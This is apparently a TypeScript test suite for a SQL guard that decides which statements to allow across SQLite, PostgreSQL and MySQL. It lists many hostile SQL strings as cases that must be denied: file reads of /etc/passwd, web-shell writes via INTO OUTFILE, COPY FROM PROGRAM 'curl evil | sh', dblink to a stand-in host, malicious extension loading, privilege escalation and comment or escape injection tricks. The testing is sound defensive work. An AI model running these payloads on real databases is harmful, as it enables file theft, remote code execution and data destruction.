import { assert, describe, it } from "@effect/vitest"
import { FastCheck } from "effect"
import { judge, maxBytes, type SqlDialect, type SqlVerdict } from "../../../src/domain/sql/SqlGuard.js"

const dialects: ReadonlyArray<SqlDialect> = ["sqlite", "postgres", "mysql"]

const show = (verdict: SqlVerdict): string => JSON.stringify(verdict)

const allows = (sql: string, dialect: SqlDialect, write = false): ReadonlyArray<string> => {
  const verdict = judge(sql, { dialect, write })
  assert.strictEqual(verdict._tag, "Allow", `${dialect}${write ? " (write)" : ""}: ${sql}\n→ ${show(verdict)}`)
  return verdict._tag === "Allow" ? verdict.statements : []
}

const denies = (sql: string, dialect: SqlDialect, rule?: string, write = false): void => {
  const verdict = judge(sql, { dialect, write })
  assert.strictEqual(verdict._tag, "Deny", `${dialect}${write ? " (write)" : ""}: ${sql}\n→ ${show(verdict)}`)
  if (rule !== undefined && verdict._tag === "Deny") {
    assert.strictEqual(verdict.rule, rule, `${dialect}: ${sql}\n→ ${verdict.reason}`)
  }
}

const everywhere = (f: (dialect: SqlDialect) => void): void => dialects.forEach(f)

describe("SqlGuard: the issue's examples", () => {
  it("denies a DELETE hidden in a CTE and a file read hidden in a SELECT", () => {
    everywhere((d) => denies("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", d, "sql.write"))
    denies("SELECT LOAD_FILE('/etc/passwd')", "mysql", "sql.function.file")
  })

  it("allows honest reads whose words look like writes", () => {
    everywhere((d) => {
      allows("SELECT 'delete me' AS not_", d)
      allows("SELECT updated_at FROM orders", d)
      allows("SELECT updated_at, deleted FROM orders", d)
      allows("SELECT insert_date, set_id, created, dropped_at, alter_ego FROM t", d)
      allows("SELECT 'drop table x'", d)
      allows("SELECT * FROM t -- delete\n", d)
      allows("SELECT * FROM t /* DROP TABLE t */ WHERE id = 1", d)
      allows("SELECT 1;", d)
      allows("SELECT 1;  \n -- trailing comment\n  ", d)
      allows("SELECT REPLACE(name, 'a', 'b') FROM users", d)
      allows("SELECT o.update, o.delete FROM orders o", d)
    })
    allows("SHOW CHARACTER SET", "mysql")
    allows("SELECT \"delete\" FROM t", "postgres")
    allows("SELECT \"delete\" FROM t", "sqlite")
    allows("SELECT `delete`, `drop` FROM t", "mysql")
    allows("SELECT [delete] FROM t", "sqlite")
  })
})

describe("SqlGuard: lexing", () => {
  it("understands doubled quotes in every dialect", () => {
    everywhere((d) => {
      allows("SELECT 'it''s; DELETE FROM t'", d)
      denies("SELECT 'it''s'; DELETE FROM t", d, "sql.stacked-write")
    })
  })

  it("MySQL: backslash escapes, executable comments, -- needs whitespace, # comments", () => {
    allows("SELECT 'it\\'s a trap; DELETE FROM t'", "mysql")
    allows("SELECT \"a \\\" ; DROP TABLE t\" AS x", "mysql")
    denies("SELECT 1--1; DELETE FROM users", "mysql", "sql.stacked-write")
    allows("SELECT 1 -- ; DELETE FROM users", "mysql")
    allows("SELECT 1 # ; DELETE FROM users\n", "mysql")
    denies("SELECT /*! DELETE FROM x */ 1", "mysql", "sql.write")
    denies("/*!50000 DELETE FROM x */", "mysql")
    denies("SELECT 1 /*!50000 , LOAD_FILE('/etc/passwd') */", "mysql", "sql.function.file")
    denies("SELECT 1 /*M! ; DROP TABLE t */", "mysql")
    allows("SELECT /*+ MAX_EXECUTION_TIME(1000) */ * FROM t", "mysql")
    allows("SELECT /* DELETE */ 1", "mysql")
    denies("SELECT 1 /*! -- */ ; DELETE FROM t", "mysql")
  })

  it("PostgreSQL: standard strings, E'' strings, dollar quoting, nested comments", () => {
    denies("SELECT 'a\\'; DELETE FROM users", "postgres", "sql.stacked-write")
    allows("SELECT E'a\\'; DELETE FROM users'", "postgres")
    denies("SELECT E'a\\\\'; DELETE FROM users", "postgres")
    allows("SELECT $$; DELETE FROM users$$", "postgres")
    allows("SELECT $tag$ $$ ; DROP TABLE x $tag$", "postgres")
    denies("SELECT $tag$ x $tag$; DROP TABLE x", "postgres", "sql.stacked-write")
    allows("SELECT /* outer /* inner */ DELETE FROM t */ 1", "postgres")
    denies("SELECT /* outer /* inner */ still comment */ 1; DELETE FROM t", "postgres")
    allows("SELECT 1--1; DELETE FROM users", "postgres")
    allows("SELECT $1, x$y FROM t WHERE a = $2", "postgres")
    allows("SELECT 'a' || U&'\\0041' FROM t", "postgres")
    denies("SELECT U&\"\\0070g_read_file\"('/etc/passwd')", "postgres", "sql.function.file")
    denies("SELECT U&'\\0041' UESCAPE '!'", "postgres", "sql.lex-error")
  })

  it("SQLite: [identifiers], backticks, no backslash escapes", () => {
    allows("SELECT [order], `group` FROM [my table]", "sqlite")
    denies("SELECT 'a\\'; DELETE FROM t", "sqlite", "sql.stacked-write")
    allows("SELECT * FROM t WHERE a = :name AND b = ?1 AND c = @x AND d = $y", "sqlite")
  })

  it("a comment in SQLite and MySQL ends at \\n only, in PostgreSQL at \\r too", () => {
    denies("SELECT 1 -- x\r'\nDELETE FROM t; --'", "sqlite")
    denies("SELECT 1 -- x\r'\nDELETE FROM t; --'", "mysql")
    denies("SELECT 1 -- x\rDELETE FROM t", "postgres")
  })

  it("denies what it cannot lex", () => {
    everywhere((d) => {
      denies("SELECT 'unterminated", d, "sql.lex-error")
      denies("SELECT 1 /* unterminated", d, "sql.lex-error")
      denies("SELECT 1\u0000; DELETE FROM t", d, "sql.lex-error")
      denies("SELECT \"unterminated", d, "sql.lex-error")
    })
    denies("SELECT $tag$ unterminated", "postgres", "sql.lex-error")
    denies("SELECT /*! 1", "mysql", "sql.lex-error")
  })

  it("denies empty and oversized input", () => {
    everywhere((d) => {
      denies("", d, "sql.unclassified")
      denies("  -- only a comment\n ;; ", d, "sql.unclassified")
      denies(`SELECT '${"x".repeat(maxBytes)}'`, d, "sql.too-large")
    })
  })

  it("lexes every configuration a backslash makes plausible", () => {
    // PostgreSQL with standard_conforming_strings=off reads \' as a quote
    denies("SELECT 'a\\'' ; DELETE FROM t; --'", "postgres")
    allows("SELECT 'C:\\temp\\'", "postgres")
    // MySQL with NO_BACKSLASH_ESCAPES or ANSI_QUOTES
    denies("SELECT 'a\\'; DELETE FROM t; --'", "mysql")
    denies("SELECT \"a\\\"; DELETE FROM t; -- \"", "mysql")
    allows("SELECT 'it\\'s'", "mysql")
  })
})

describe("SqlGuard: statements", () => {
  it("splits stacked reads, one statement per prepare", () => {
    everywhere((d) => {
      assert.deepStrictEqual(allows("SELECT 1; SELECT 2;\n-- done", d), ["SELECT 1", "SELECT 2"])
      assert.deepStrictEqual(allows("SELECT ';' AS semi", d), ["SELECT ';' AS semi"])
    })
  })

  it("denies a write stacked after a read", () => {
    everywhere((d) => {
      denies("SELECT 1; DELETE FROM users", d, "sql.stacked-write")
      denies("SELECT 1; DROP TABLE users", d, "sql.stacked-write")
      denies("SELECT 1;UPDATE users SET admin = 1", d, "sql.stacked-write")
      denies("SELECT 1; COMMIT", d, "sql.stacked-write")
    })
  })

  it("keeps a trigger body with its CREATE in write mode", () => {
    const sql = "CREATE TRIGGER t AFTER INSERT ON a BEGIN INSERT INTO log VALUES (new.id); END; SELECT 1"
    assert.deepStrictEqual(allows(sql, "sqlite", true), [
      "CREATE TRIGGER t AFTER INSERT ON a BEGIN INSERT INTO log VALUES (new.id); END",
      "SELECT 1"
    ])
  })
})

describe("SqlGuard: read-only mode", () => {
  it("denies data-modifying statements anywhere", () => {
    everywhere((d) => {
      denies("INSERT INTO t VALUES (1)", d, "sql.write")
      denies("UPDATE t SET a = 1", d, "sql.write")
      denies("DELETE FROM t", d, "sql.write")
      denies("REPLACE INTO t VALUES (1)", d, "sql.write")
      denies("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x", d, "sql.write")
      denies("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", d, "sql.write")
      denies("WITH x AS MATERIALIZED (DELETE FROM t RETURNING id) SELECT 1", d, "sql.write")
      denies("SELECT * INTO backup FROM users", d, "sql.write")
    })
    denies("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "postgres", "sql.write")
    denies("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "postgres", "sql.write")
    denies("SELECT id INTO @x FROM t", "mysql", "sql.write")
    denies("PREPARE p AS DELETE FROM t", "postgres", "sql.write")
    denies("EXECUTE p", "postgres", "sql.write")
    denies("UPSERT INTO t VALUES (1)", "postgres")
  })

  it("denies DDL and maintenance", () => {
    everywhere((d) => {
      denies("CREATE TABLE t (a int)", d, "sql.ddl")
      denies("DROP TABLE t", d, "sql.ddl")
      denies("ALTER TABLE t ADD COLUMN b int", d, "sql.ddl")
      denies("CREATE VIEW v AS SELECT 1", d, "sql.ddl")
    })
    denies("TRUNCATE users", "postgres", "sql.ddl")
    denies("TRUNCATE TABLE users", "mysql", "sql.ddl")
    denies("VACUUM", "sqlite", "sql.ddl")
    denies("VACUUM FULL users", "postgres", "sql.ddl")
    denies("REINDEX TABLE t", "postgres", "sql.ddl")
    denies("ANALYZE t", "postgres", "sql.ddl")
    denies("ANALYZE TABLE t", "mysql", "sql.ddl")
    denies("CLUSTER t USING idx", "postgres", "sql.ddl")
    denies("COMMENT ON TABLE t IS 'x'", "postgres", "sql.ddl")
    denies("REFRESH MATERIALIZED VIEW mv", "postgres", "sql.ddl")
    denies("RENAME TABLE a TO b", "mysql", "sql.ddl")
    denies("OPTIMIZE TABLE t", "mysql", "sql.ddl")
    denies("SECURITY LABEL ON TABLE t IS 'x'", "postgres", "sql.ddl")
    denies("IMPORT TABLE FROM '/tmp/t.sdi'", "mysql")
  })

  it("denies transactions, locks and session changes", () => {
    everywhere((d) => {
      denies("BEGIN", d, "sql.transaction")
      denies("COMMIT", d, "sql.transaction")
      denies("ROLLBACK", d, "sql.transaction")
      denies("SAVEPOINT a", d, "sql.transaction")
      denies("RELEASE SAVEPOINT a", d, "sql.transaction")
    })
    denies("START TRANSACTION", "mysql", "sql.transaction")
    denies("END", "postgres", "sql.transaction")
    denies("SELECT * FROM t FOR UPDATE", "postgres", "sql.lock")
    denies("SELECT * FROM t FOR SHARE", "postgres", "sql.lock")
    denies("SELECT * FROM t FOR NO KEY UPDATE", "postgres", "sql.lock")
    denies("SELECT * FROM t FOR KEY SHARE SKIP LOCKED", "postgres", "sql.lock")
    denies("SELECT * FROM t LOCK IN SHARE MODE", "mysql", "sql.lock")
    denies("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "postgres", "sql.lock")
    denies("LOCK TABLES t READ", "mysql", "sql.lock")
    denies("SET search_path = evil", "postgres", "sql.session")
    denies("SET NAMES utf8mb4", "mysql", "sql.session")
    denies("RESET ALL", "postgres", "sql.session")
    denies("DISCARD ALL", "postgres", "sql.session")
    denies("USE other_db", "mysql", "sql.session")
    denies("DETACH DATABASE other", "sqlite", "sql.session")
    denies("SELECT set_config('search_path', 'evil', false)", "postgres", "sql.session")
    denies("LISTEN chan", "postgres", "sql.write")
    denies("NOTIFY chan, 'x'", "postgres", "sql.write")
    denies("DEALLOCATE ALL", "postgres", "sql.write")
    denies("HANDLER t OPEN", "mysql", "sql.write")
  })

  it("denies DO, CALL, COPY, LOAD", () => {
    denies("DO $$ BEGIN DELETE FROM t; END $$", "postgres")
    denies("DO 1", "mysql", "sql.write")
    everywhere((d) => denies("CALL do_things()", d, "sql.write"))
    denies("COPY t TO STDOUT", "postgres", "sql.write")
    denies("COPY (SELECT 1) TO STDOUT", "postgres", "sql.write")
    denies("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql", "sql.function.file")
    denies("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "mysql", "sql.function.file")
    denies("LOAD 'plpython3'", "postgres", "sql.function.extension")
  })

  it("denies state-changing functions", () => {
    denies("SELECT nextval('seq')", "postgres", "sql.function.state")
    denies("SELECT setval('seq', 1)", "postgres", "sql.function.state")
    denies("SELECT txid_current()", "postgres", "sql.function.state")
    denies("SELECT pg_advisory_lock(1)", "postgres", "sql.function.state")
    denies("SELECT pg_try_advisory_xact_lock(1)", "postgres", "sql.function.state")
    denies("SELECT GET_LOCK('x', 10)", "mysql", "sql.function.state")
    denies("SELECT lo_create(0)", "postgres", "sql.function.state")
    denies("SELECT NEXT VALUE FOR s", "mysql", "sql.function.state")
    allows("SELECT currval('seq'), current_setting('search_path'), xpath('/a', x) FROM t", "postgres")
  })

  it("denies unknown or non-query statements", () => {
    everywhere((d) => {
      denies("FOO bar", d, "sql.unclassified")
      denies("; ;", d, "sql.unclassified")
      denies("(DELETE FROM t)", d)
      denies("WITH x AS (PRAGMA writable_schema = 1) SELECT 1", d)
    })
    denies("SHOW TABLES", "sqlite", "sql.unclassified")
    denies("DESCRIBE t", "postgres", "sql.unclassified")
    denies("DECLARE c CURSOR FOR SELECT 1", "postgres")
  })
})

describe("SqlGuard: known read-only forms", () => {
  it("allows queries", () => {
    everywhere((d) => {
      allows("SELECT a, b FROM t WHERE c IN (SELECT c FROM u) ORDER BY a DESC LIMIT 10", d)
      allows("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", d)
      allows("VALUES (1, 'a'), (2, 'b')", d)
      allows("(SELECT 1) UNION (SELECT 2)", d)
      allows("SELECT CASE WHEN a THEN comment ELSE body END FROM posts", d)
      allows("SELECT comment, release, start, analyze_count FROM posts", d)
      allows("SELECT count(*) FILTER (WHERE x > 1) FROM t", d)
      allows("SELECT avg(load), max(release) FROM metrics", d)
      allows("SELECT substr(comment, 1, 10) FROM posts", d)
      allows("SELECT max(kill), avg(attach), min(shutdown), sum(checkpoint) FROM stats", d)
    })
    allows("TABLE users", "postgres")
  })

  it("EXPLAIN without ANALYZE", () => {
    allows("EXPLAIN SELECT * FROM t", "postgres")
    allows("EXPLAIN VERBOSE SELECT * FROM t", "postgres")
    allows("EXPLAIN (ANALYZE false) SELECT * FROM t", "postgres")
    allows("EXPLAIN (ANALYZE off, COSTS true, FORMAT JSON) SELECT * FROM t", "postgres")
    allows("EXPLAIN (FORMAT JSON) SELECT * FROM t", "postgres")
    allows("EXPLAIN QUERY PLAN SELECT * FROM t", "sqlite")
    allows("EXPLAIN SELECT * FROM t", "sqlite")
    allows("EXPLAIN FORMAT=JSON SELECT * FROM t", "mysql")
    allows("EXPLAIN users", "mysql")
    allows("DESCRIBE users", "mysql")
    allows("DESC users email", "mysql")
    allows("EXPLAIN FOR CONNECTION 12", "mysql")
  })

  it("denies EXPLAIN ANALYZE in every spelling", () => {
    denies("EXPLAIN ANALYZE SELECT * FROM t", "postgres", "sql.write")
    denies("EXPLAIN ANALYSE SELECT * FROM t", "postgres", "sql.write")
    denies("EXPLAIN (ANALYZE) SELECT * FROM t", "postgres", "sql.write")
    denies("EXPLAIN (ANALYZE true, BUFFERS) SELECT * FROM t", "postgres", "sql.write")
    denies("EXPLAIN (COSTS off, ANALYZE on) SELECT * FROM t", "postgres", "sql.write")
    denies("EXPLAIN ANALYZE SELECT * FROM t", "mysql", "sql.write")
    denies("EXPLAIN ANALYZE DELETE FROM t", "postgres")
    allows("EXPLAIN DELETE FROM t", "sqlite")
    allows("EXPLAIN QUERY PLAN DELETE FROM t WHERE id = 1", "sqlite")
    allows("EXPLAIN UPDATE t SET a = 1", "postgres")
    allows("EXPLAIN (COSTS off) DELETE FROM t", "postgres")
    denies("EXPLAIN UPDATE t SET a = 1", "mysql")
    allows("CHECKSUM TABLE t, u QUICK", "mysql")
    denies("CHECKSUM TABLE t", "sqlite")
    denies("EXPLAIN (ANALYZE) UPDATE t SET a = 1", "postgres", "sql.write")
    denies("EXPLAIN WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", "postgres", "sql.write")
    denies("EXPLAIN EXECUTE p", "postgres", "sql.write")
    denies("EXPLAIN CREATE TABLE x AS SELECT 1", "postgres", "sql.ddl")
  })

  it("SHOW in PostgreSQL and MySQL", () => {
    allows("SHOW search_path", "postgres")
    allows("SHOW ALL", "postgres")
    allows("SHOW TABLES", "mysql")
    allows("SHOW CREATE TABLE users", "mysql")
    allows("SHOW FULL COLUMNS FROM users LIKE 'e%'", "mysql")
    allows("SHOW GRANTS FOR CURRENT_USER", "mysql")
    allows("SHOW CREATE USER bob", "mysql")
    denies("SHOW TABLES WHERE LOAD_FILE('/etc/passwd')", "mysql", "sql.function.file")
  })

  it("only read pragmas in SQLite", () => {
    allows("PRAGMA table_info(users)", "sqlite")
    allows("PRAGMA table_info('users')", "sqlite")
    allows("PRAGMA main.table_info(\"users\")", "sqlite")
    allows("PRAGMA foreign_key_list(orders)", "sqlite")
    allows("PRAGMA index_list(orders)", "sqlite")
    allows("PRAGMA user_version", "sqlite")
    allows("PRAGMA journal_mode", "sqlite")
    allows("PRAGMA integrity_check", "sqlite")
    denies("PRAGMA user_version = 7", "sqlite", "sql.session")
    denies("PRAGMA journal_mode = DELETE", "sqlite")
    denies("PRAGMA journal_mode(WAL)", "sqlite", "sql.session")
    denies("PRAGMA foreign_keys = OFF", "sqlite", "sql.session")
    denies("PRAGMA writable_schema = ON", "sqlite", "sql.session")
    denies("PRAGMA writable_schema", "sqlite", "sql.session")
    denies("PRAGMA optimize", "sqlite", "sql.session")
    denies("PRAGMA wal_checkpoint(TRUNCATE)", "sqlite", "sql.session")
    denies("PRAGMA table_info", "postgres")
    allows("SELECT * FROM pragma_table_info('users')", "sqlite")
  })
})

describe("SqlGuard: functions and forms that leave the database (both modes)", () => {
  const reachEverywhere: ReadonlyArray<readonly [SqlDialect, string, string]> = [
    ["mysql", "SELECT LOAD_FILE('/etc/passwd')", "sql.function.file"],
    ["mysql", "SELECT load_file /* c */ ('/etc/passwd')", "sql.function.file"],
    ["mysql", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", "sql.function.file"],
    ["mysql", "SELECT '<?php ?>' INTO DUMPFILE '/var/www/x.php'", "sql.function.file"],
    ["postgres", "SELECT pg_read_file('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT \"pg_read_file\"('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT PG_READ_BINARY_FILE('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT * FROM pg_ls_dir('/')", "sql.function.file"],
    ["postgres", "SELECT pg_stat_file('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT lo_import('/etc/passwd')", "sql.function.file"],
    ["postgres", "SELECT lo_export(1234, '/tmp/x')", "sql.function.file"],
    ["postgres", "COPY users TO '/tmp/users.csv'", "sql.function.file"],
    ["postgres", "COPY users FROM '/etc/passwd'", "sql.function.file"],
    ["postgres", "COPY users FROM PROGRAM 'curl evil | sh'", "sql.function.process"],
    ["postgres", "COPY (SELECT 1) TO PROGRAM 'id'", "sql.function.process"],
    ["postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "sql.function.network"],
    ["postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "sql.function.network"],
    ["postgres", "SELECT pg_terminate_backend(123)", "sql.function.process"],
    ["postgres", "SELECT pg_cancel_backend(123)", "sql.function.process"],
    ["postgres", "SELECT pg_reload_conf()", "sql.function.server"],
    ["postgres", "SELECT pg_rotate_logfile()", "sql.function.server"],
    ["postgres", "SELECT pg_switch_wal()", "sql.function.server"],
    ["postgres", "SELECT pg_promote()", "sql.function.server"],
    ["postgres", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "sql.function.server"],
    ["postgres", "SELECT pg_drop_replication_slot('s')", "sql.function.server"],
    ["postgres", "SELECT pg_logical_emit_message(true, 'x', 'y')", "sql.function.server"],
    ["postgres", "SELECT pg_sleep(10)", "sql.function.sleep"],
    ["postgres", "SELECT pg_sleep_for('5 minutes')", "sql.function.sleep"],
    ["postgres", "SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", "sql.function.dynamic"],
    ["postgres", "SELECT table_to_xml('users', true, true, '')", "sql.function.dynamic"],
    ["postgres", "SELECT cursor_to_xml('c', 1, true, true, '')", "sql.function.dynamic"],
    ["postgres", "SELECT dbms_pipe.receive_message('x', 10)", "sql.function.server"],
    ["postgres", "ALTER SYSTEM SET log_directory = '/tmp'", "sql.function.server"],
    ["postgres", "CREATE EXTENSION plpython3u", "sql.function.extension"],
    ["postgres", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", "sql.function.network"],
    ["postgres", "SET ROLE postgres", "sql.privilege"],
    ["postgres", "SET SESSION AUTHORIZATION postgres", "sql.privilege"],
    ["postgres", "GRANT ALL ON users TO public", "sql.privilege"],
    ["postgres", "CREATE ROLE evil SUPERUSER", "sql.privilege"],
    ["postgres", "CHECKPOINT", "sql.function.server"],
    ["mysql", "SELECT SLEEP(10)", "sql.function.sleep"],
    ["mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "sql.function.sleep"],
    ["mysql", "SELECT sys_exec('id')", "sql.function.process"],
    ["mysql", "SET GLOBAL general_log_file = '/var/www/x.php'", "sql.function.server"],
    ["mysql", "SET @@global.general_log = 1", "sql.function.server"],
    ["mysql", "SET PERSIST max_connections = 1", "sql.function.server"],
    ["mysql", "INSTALL PLUGIN evil SONAME 'evil.so'", "sql.function.extension"],
    ["mysql", "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'", "sql.function.extension"],
    ["mysql", "SHUTDOWN", "sql.function.process"],
    ["mysql", "KILL 12", "sql.function.process"],
    ["mysql", "KILL QUERY 12", "sql.function.process"],
    ["mysql", "FLUSH PRIVILEGES", "sql.function.server"],
    ["mysql", "PURGE BINARY LOGS BEFORE NOW()", "sql.function.server"],
    ["mysql", "CHANGE MASTER TO MASTER_HOST = 'evil'", "sql.function.server"],
    ["mysql", "CREATE USER evil IDENTIFIED BY 'x'", "sql.privilege"],
    ["mysql", "SET PASSWORD FOR root = 'x'", "sql.privilege"],
    ["mysql", "CREATE TABLE t (a int) DATA DIRECTORY = '/tmp'", "sql.function.file"],
    ["mysql", "CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://u@evil/db/t'", "sql.function.network"],
    ["mysql", "PREPARE s FROM @sql", "sql.function.dynamic"],
    ["mysql", "PREPARE s FROM 'SELECT LOAD_FILE(0x2f)'", "sql.function.file"],
    ["mysql", "SELECT \"load_file\"('/etc/passwd')", "sql.function.file"],
    ["sqlite", "SELECT load_extension('/tmp/evil.so')", "sql.function.extension"],
    ["sqlite", "SELECT readfile('/etc/passwd')", "sql.function.file"],
    ["sqlite", "SELECT writefile('/tmp/x', 'data')", "sql.function.file"],
    ["sqlite", "SELECT edit('x', 'vim')", "sql.function.process"],
    ["sqlite", "SELECT fts3_tokenizer('simple', x'00')", "sql.function.extension"],
    ["sqlite", "SELECT * FROM fsdir('/etc')", "sql.function.file"],
    ["sqlite", "SELECT * FROM fsdir WHERE name = '/etc'", "sql.function.file"],
    ["sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "sql.function.file"],
    ["sqlite", "ATTACH '/tmp/evil.db' AS evil", "sql.function.file"],
    ["sqlite", "VACUUM INTO '/tmp/copy.db'", "sql.function.file"],
    ["sqlite", "PRAGMA temp_store_directory = '/tmp'", "sql.function.file"],
    ["sqlite", "CREATE VIRTUAL TABLE t USING csv(filename='/etc/passwd')", "sql.function.extension"]
  ]

  it.each(reachEverywhere)("%s: %s", (dialect, sql, rule) => {
    denies(sql, dialect, rule)
    denies(sql, dialect, rule, true)
  })
})

describe("SqlGuard: write mode", () => {
  it("allows data-modifying and schema statements", () => {
    everywhere((d) => {
      allows("INSERT INTO t (a) VALUES (1)", d, true)
      allows("UPDATE t SET a = 2 WHERE id = 1", d, true)
      allows("DELETE FROM t WHERE id = 1", d, true)
      allows("CREATE TABLE t (id integer primary key, name text)", d, true)
      allows("DROP TABLE IF EXISTS t", d, true)
      assert.deepStrictEqual(allows("BEGIN; INSERT INTO t VALUES (1); COMMIT;", d, true), [
        "BEGIN",
        "INSERT INTO t VALUES (1)",
        "COMMIT"
      ])
      allows("SELECT * FROM t FOR UPDATE", d, true)
    })
    allows("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", "postgres", true)
    allows("SELECT nextval('s')", "postgres", true)
    allows("SET search_path = app", "postgres", true)
    allows("PRAGMA foreign_keys = ON", "sqlite", true)
    allows("COPY t FROM STDIN", "postgres", true)
    allows("ALTER SEQUENCE s RESTART WITH 1", "postgres", true)
    allows("TRUNCATE t RESTART IDENTITY", "postgres", true)
    allows("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "postgres", true)
    allows("DO $$ BEGIN UPDATE t SET a = 1; END $$", "postgres", true)
    allows("CREATE VIRTUAL TABLE docs USING fts5(body)", "sqlite", true)
    allows("PREPARE s FROM 'UPDATE t SET a = ?'", "mysql", true)
    allows("SELECT set_config('search_path', 'app', false)", "postgres", true)
  })

  it("still denies server-side code that reaches outside", () => {
    denies("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "postgres", "sql.function.file", true)
    denies("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", "postgres", "sql.function.dynamic", true)
    denies("DO E'BEGIN PERFORM \\x70g_read_file(''/etc/passwd''); END'", "postgres", "sql.function.file", true)
    denies("DO 'BEGIN PERFORM pg_read_' \n 'file(''/etc/passwd''); END'", "postgres", "sql.function.file", true)
    denies("PREPARE s FROM 'SELECT LOAD_' 'FILE(''/etc/passwd'')'", "mysql", "sql.function.file", true)
    denies("PREPARE s FROM CONCAT('SELECT ', 'LOAD_FILE(1)')", "mysql", "sql.function.dynamic", true)
    denies("SET session_preload_libraries = 'x'", "postgres", "sql.function.extension", true)
    denies("DO $$ BEGIN COPY t FROM PROGRAM 'id'; END $$", "postgres", undefined, true)
    denies("DO LANGUAGE plpython3u $$ import os $$", "postgres", "sql.function.process", true)
    denies("DO $$ import os $$ LANGUAGE plpython3u", "postgres", "sql.function.process", true)
    denies(
      "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'",
      "postgres",
      "sql.function.file",
      true
    )
    denies(
      "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ os.system('id') $$ LANGUAGE plpython3u",
      "postgres",
      "sql.function.process",
      true
    )
    denies("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c", "postgres", "sql.function.process", true)
    denies(
      "CREATE PROCEDURE p() BEGIN SET GLOBAL general_log = 1; END",
      "mysql",
      "sql.function.server",
      true
    )
    denies("CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('x'); END", "sqlite", undefined, true)
    denies("SELECT set_config('role', 'postgres', false)", "postgres", "sql.privilege", true)
    denies("INSERT INTO t VALUES (1); SELECT LOAD_FILE('/etc/passwd')", "mysql", "sql.function.file", true)
    denies("", "sqlite", "sql.unclassified", true)
    denies("SELECT 'x", "sqlite", "sql.lex-error", true)
    denies(".shell id", "sqlite", "sql.unclassified", true)
  })
})

// ---------------------------------------------------------------------------------------------------------------
// Properties

/** Attacks as token lists, so separators (whitespace, comments) can be inserted between tokens. */
const attacks: ReadonlyArray<readonly [SqlDialect, ReadonlyArray<string>]> = [
  ...dialects.flatMap((d) => [
    [d, ["DELETE", "FROM", "users"]],
    [d, ["UPDATE", "users", "SET", "admin", "=", "1"]],
    [d, ["INSERT", "INTO", "users", "VALUES", "(1)"]],
    [d, ["DROP", "TABLE", "users"]],
    [d, ["CREATE", "TABLE", "x", "(a int)"]],
    [d, ["ALTER", "TABLE", "users", "ADD", "b", "int"]]
  ] as const),
  ["mysql", ["SELECT", "LOAD_FILE", "('/etc/passwd')"]],
  ["mysql", ["SELECT", "1", "INTO", "OUTFILE", "'/tmp/x'"]],
  ["mysql", ["SELECT", "SLEEP", "(10)"]],
  ["mysql", ["LOAD", "DATA", "INFILE", "'/etc/passwd'", "INTO", "TABLE", "t"]],
  ["mysql", ["SET", "GLOBAL", "general_log", "=", "1"]],
  ["postgres", ["SELECT", "pg_read_file", "('/etc/passwd')"]],
  ["postgres", ["SELECT", "pg_catalog", ".", "pg_ls_dir", "('/')"]],
  ["postgres", ["COPY", "t", "FROM", "PROGRAM", "'id'"]],
  ["postgres", ["SELECT", "dblink", "('host=x', 'select 1')"]],
  ["postgres", ["SELECT", "pg_terminate_backend", "(1)"]],
  ["postgres", ["EXPLAIN", "ANALYZE", "SELECT", "1"]],
  ["postgres", ["SELECT", "*", "FROM", "t", "FOR", "UPDATE"]],
  ["postgres", ["SET", "ROLE", "postgres"]],
  ["sqlite", ["SELECT", "load_extension", "('x.so')"]],
  ["sqlite", ["ATTACH", "DATABASE", "'/tmp/x.db'", "AS", "x"]],
  ["sqlite", ["PRAGMA", "writable_schema", "=", "1"]],
  ["sqlite", ["SELECT", "writefile", "('/tmp/x', 'y')"]]
]

const separator = (dialect: SqlDialect): FastCheck.Arbitrary<string> => {
  const common = [" ", "\n", "\t", "  \r\n ", "/* c */", "/**/", " /* DELETE ; ' \" */ ", "-- c\n", " -- '; x\n"]
  const specific = dialect === "mysql" ? ["#c\n", " # ' \n"] : dialect === "postgres" ? ["/* /* nested */ */"] : []
  return FastCheck.constantFrom(...common, ...specific)
}

const joined = (dialect: SqlDialect, tokens: ReadonlyArray<string>): FastCheck.Arbitrary<string> =>
  FastCheck.array(separator(dialect), { minLength: tokens.length - 1, maxLength: tokens.length - 1 }).map((seps) =>
    tokens.reduce((acc, token, i) => (i === 0 ? token : `${acc}${seps[i - 1] ?? " "}${token}`), "")
  )

const attackArb = FastCheck.constantFrom(...attacks).chain(([dialect, tokens]) =>
  FastCheck.tuple(FastCheck.constant(dialect), joined(dialect, tokens), separator(dialect))
)

